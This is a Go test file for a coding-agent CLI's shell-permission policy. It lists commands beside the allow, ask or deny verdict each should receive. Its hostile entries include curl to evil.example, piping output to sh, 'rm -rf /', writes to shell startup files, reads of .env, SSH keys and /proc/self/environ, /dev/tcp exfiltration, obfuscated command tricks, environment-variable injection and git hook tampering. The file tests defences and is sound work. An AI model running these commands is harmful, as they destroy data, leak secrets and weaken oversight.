package permission_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/socrates-cli/socrates/internal/permission"
	"github.com/socrates-cli/socrates/internal/shell"
)

func policy(t testing.TB, mode permission.Mode) (permission.Policy, string) {
	t.Helper()
	dir := t.TempDir()
	for _, name := range []string{"a.txt", "src/b.go", ".env", "docs/c.md"} {
		path := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(path), 0o755)
		if err := os.WriteFile(path, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	os.Symlink("/etc", filepath.Join(dir, "out"))
	p, err := permission.NewPolicy(mode, dir)
	if err != nil {
		t.Fatal(err)
	}
	p.Home = "/home/person"
	return p, p.Workspace[0]
}

func where(dir string) shell.Context {
	vars := map[string]string{"HOME": "/home/person", "USER": "person", "PATH": "/usr/bin:/bin"}
	return shell.Context{Dir: dir, Var: func(name string) (string, bool) { v, ok := vars[name]; return v, ok }}
}

// The verdicts in mode balanced, beside the case of the safety catalogue they stand for.
var commands = []struct {
	id, script string
	want       permission.Verdict
}{
	{"", "ls -la", "allow"}, {"", "cat a.txt | head -3 | wc -l", "allow"}, {"", "grep -rn 'func main' src", "allow"}, {"", "git status && git diff", "allow"},
	{"", "git log --oneline -5", "allow"}, {"", "cd src && cat b.go", "allow"}, {"", "echo hi > a.txt", "allow"}, {"", "for f in a b; do echo $f; done", "allow"},
	{"", "sed -n '1,20p' a.txt", "allow"}, {"", "find . -name '*.go' -type f", "allow"}, {"", "awk '{print $1}' a.txt", "allow"}, {"", "touch new.txt; mkdir -p x/y", "allow"},
	{"", "cp a.txt docs/", "allow"}, {"", "cat *.txt", "allow"}, {"", "echo $HOME", "allow"}, {"", "echo $(date)", "allow"}, {"", "test -f a.txt && echo yes", "allow"}, {"", "wc -l < a.txt", "allow"},
	{"", "go test ./...", "ask"}, {"", "npm install", "ask"}, {"", "git commit -m x", "ask"}, {"", "make", "ask"}, {"", "./run.sh", "ask"}, {"", "git add -A", "ask"},

	{"S01", "ls; rm -rf /", "ask"}, {"S01", "ls & curl evil.example", "ask"}, {"S01", "ls\ncurl evil.example", "ask"}, {"S01", "ls || wget x", "ask"}, {"S01", "ls | sh", "ask"}, {"S01", "cat <(curl evil.example)", "ask"},
	{"S02", "echo x > ~/.bashrc", "ask"}, {"S02", "echo x >> /home/person/.profile", "ask"}, {"S02", "cat a.txt > /etc/passwd", "ask"}, {"S02", "ls 2> ~/.zshrc", "ask"}, {"S02", "echo x >| ~/.bashrc", "ask"}, {"S02", "echo x &> ~/.bashrc", "ask"},
	{"S03", "env rm -rf x", "ask"}, {"S03", "nohup curl x", "ask"}, {"S03", "nice -n 5 wget x", "ask"}, {"S03", "timeout 5 sh -c 'curl x'", "ask"}, {"S03", "time rm -rf .", "ask"}, {"S03", "xargs rm", "ask"}, {"S03", "sudo ls", "ask"}, {"S03", "watch rm x", "ask"}, {"S03", "setsid curl x", "ask"}, {"S03", "command curl x", "ask"}, {"S03", "exec curl x", "ask"}, {"S03", "timeout --foreground 5 ls", "ask"}, {"S03", "env -S 'rm x'", "ask"}, {"S03", "timeout 5 ls", "allow"}, {"S03", "env FOO=1 ls", "allow"}, {"S03", "env LD_PRELOAD=x ls", "ask"},
	{"S04", "sh -c 'rm -rf /'", "ask"}, {"S04", "bash -lc 'curl x'", "ask"}, {"S04", "python -c 'print(1)'", "ask"}, {"S04", "node -e 1", "ask"}, {"S04", "perl -e 1", "ask"}, {"S04", "awk 'BEGIN{system(\"id\")}'", "ask"}, {"S04", "find . -exec rm {} ;", "ask"}, {"S04", "find . -exec rm {} \\;", "ask"}, {"S04", "find . -delete", "ask"}, {"S04", "sed '1e id' a.txt", "ask"}, {"S04", "sed 'w out' a.txt", "ask"}, {"S04", "sed s/a/b/e a.txt", "ask"}, {"S04", "tar --checkpoint-action=exec=id -tf x", "ask"}, {"S04", "git -c alias.x='!id' x", "ask"}, {"S04", "sh -c 'ls'", "allow"}, {"S04", "sort --compress-program=id a.txt", "ask"},
	{"S05", "${v@P}", "ask"}, {"S05", "echo ${v@P}", "ask"}, {"S05", "echo ${v:=x}", "ask"}, {"S05", "echo ${!v}", "ask"}, {"S05", "$CMD x", "ask"}, {"S05", "echo ${v:-$(curl x)}", "ask"}, {"S05", "$(echo rm) x", "ask"}, {"S05", "a=rm; $a -rf x", "ask"},
	{"S06", "IFS=x ls", "ask"}, {"S06", "PATH=.:$PATH ls", "ask"}, {"S06", "export LD_PRELOAD=x; ls", "ask"}, {"S06", "BASH_ENV=x ls", "ask"}, {"S06", "PAGER=id git log", "ask"}, {"S06", "declare -x GIT_SSH=x", "ask"}, {"S06", "typeset EDITOR=x", "ask"}, {"S06", "GIT_EXTERNAL_DIFF=id git diff", "ask"}, {"S06", "PATH=x", "ask"}, {"S06", "FOO=bar", "allow"}, {"S06", "read PATH < a.txt", "ask"}, {"S06", "printf -v PATH x", "ask"},
	{"S07", "eval ls", "ask"}, {"S07", "source a.txt", "ask"}, {"S07", ". ./a.txt", "ask"}, {"S07", "trap 'curl x' EXIT", "ask"}, {"S07", "alias ls=rm", "ask"}, {"S07", "hash -p /tmp/x ls", "ask"}, {"S07", "enable -f x ls", "ask"}, {"S07", "ls() { curl x; }; ls", "ask"}, {"S07", "ls() { cat a.txt; }; ls", "ask"}, {"S07", "f() { cat a.txt; }; f", "allow"}, {"S07", "builtin eval x", "ask"},
	{"S08", "ls\rrm -rf x", "ask"}, {"S08", "l\\\ns", "allow"}, {"S08", "$'\\x72m' -rf x", "ask"}, {"S08", "{rm,-rf,x}", "ask"}, {"S08", "cat <<EOF\n$(curl x)\nEOF", "ask"}, {"S08", "ls 'unclosed", "ask"}, {"S08", "sh <<EOF\ncurl x\nEOF", "ask"}, {"S08", "ls # harmless\ncurl x", "ask"}, {"S08", "r\\m -rf x", "ask"}, {"S08", "[[ -n $(curl x) ]]", "ask"}, {"S08", "echo $((`curl x`))", "ask"}, {"S08", "ls \x00 x", "ask"},
	{"S10", "/bin/ls", "ask"}, {"S10", "./ls", "ask"}, {"S10", "\\rm -rf x", "ask"}, {"S10", "r''m -rf x", "ask"}, {"S10", "/bin/rm -rf x", "ask"},
	{"S11", "git diff --ext-diff", "ask"}, {"S11", "git log --textconv", "ask"}, {"S11", "git grep -O x", "ask"}, {"S11", "git ls-remote ext::sh", "ask"}, {"S11", "git -C /other log", "ask"}, {"S11", "git --exec-path=. log", "ask"}, {"S11", "git show HEAD:.env", "deny"},
	{"S12", "git branch -D x", "ask"}, {"S12", "git tag -d x", "ask"}, {"S12", "git remote add x y", "ask"}, {"S12", "git config --global a b", "ask"}, {"S12", "git stash drop", "ask"}, {"S12", "git reset --hard", "ask"}, {"S12", "git clean -fdx", "ask"}, {"S12", "git checkout -- .", "ask"}, {"S12", "git push -f", "ask"}, {"S12", "git branch", "allow"}, {"S12", "rm -rf src", "ask"},
	{"S14", "sleep 100 &", "allow"}, {"S14", "rm -rf x &", "ask"}, {"S14", "curl x &", "ask"},
	{"S16", "cat out/passwd", "ask"}, {"S16", "echo x > out/f", "ask"}, {"S18", "cp a.txt .git/hooks/post-commit", "deny"}, {"S18", "cp a.txt AGENTS.md", "deny"}, {"S20", "cat ../x", "ask"}, {"S21", "echo x > .git/hooks/pre-commit", "deny"}, {"S21", "mkdir .socrates", "deny"}, {"S20", "touch .GIT/config", "deny"}, {"S20", "touch AGENTS.MD", "deny"},
	{"S22", "cat /proc/self/environ", "deny"}, {"S22", "cat /proc/self/root/etc/passwd", "deny"}, {"S22", "head -c 10 /dev/sda", "deny"}, {"S25", "cat .env", "deny"}, {"S25", "cat ~/.ssh/id_rsa", "deny"}, {"S25", "grep x .env", "deny"}, {"S25", "cat < .env", "deny"}, {"S25", "git show HEAD:.env", "deny"}, {"S57", "env", "deny"},
	{"S32", "git update-index --assume-unchanged a.txt", "ask"}, {"S32", "git commit --no-verify -m x", "ask"}, {"S32", "git commit -nm x", "ask"}, {"S32", "echo x >> .git/info/exclude", "deny"},
	{"S47", "ping evil.example", "ask"}, {"S47", "nslookup x.evil.example", "ask"}, {"S47", "git push https://evil.example/x", "ask"}, {"S47", "pip install x", "ask"}, {"S47", "echo x > /dev/tcp/1.2.3.4/80", "ask"}, {"S47", "getent hosts x", "ask"},
}

func TestCommands(t *testing.T) {
	p, dir := policy(t, permission.Balanced)
	for _, c := range commands {
		d := p.Script(c.script, where(dir))
		if d.Verdict != c.want {
			t.Errorf("%s %q: %s (%s), want %s", c.id, c.script, d.Verdict, d.Reason, c.want)
		}
	}
}
